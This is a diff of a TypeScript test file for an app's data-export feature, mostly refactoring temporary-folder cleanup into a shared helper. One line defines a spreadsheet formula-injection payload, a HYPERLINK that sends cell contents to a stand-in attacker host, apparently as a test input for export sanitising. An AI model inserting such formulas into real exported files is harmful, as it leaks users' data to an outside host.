@@ -8,24 +8,19 @@ import { DATABASE_FILE_NAME } from '../../../../../electron/services/core/app-co
 import { seedCustomers } from '../../../../fixtures/customer-fixtures.ts';
 import { fillDisk } from '../../../../helpers/fill-disk.ts';
 import { readOnlyView, smallDisk, type Mount } from '../../../../helpers/mounts.ts';
-import { createTempCore, tempDir, type TempCore } from '../../../../helpers/temp-core.ts';
+import { createTempCore, type TempCore } from '../../../../helpers/temp-core.ts';
+import { tempFolders } from '../../../../helpers/temp-folders.ts';
 
 let app: TempCore | null = null;
-const dirs: string[] = [];
 const mounts: Mount[] = [];
 
 afterEach(async () => {
   await app?.close();
   app = null;
   for (const m of mounts.splice(0)) m.unmount();
-  for (const d of dirs.splice(0)) fs.rmSync(d, { recursive: true, force: true });
 });
 
-function folder(): string {
-  const dir = tempDir('tf-export-');
-  dirs.push(dir);
-  return dir;
-}
+const folder = tempFolders('tf-export-');
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click")';
 
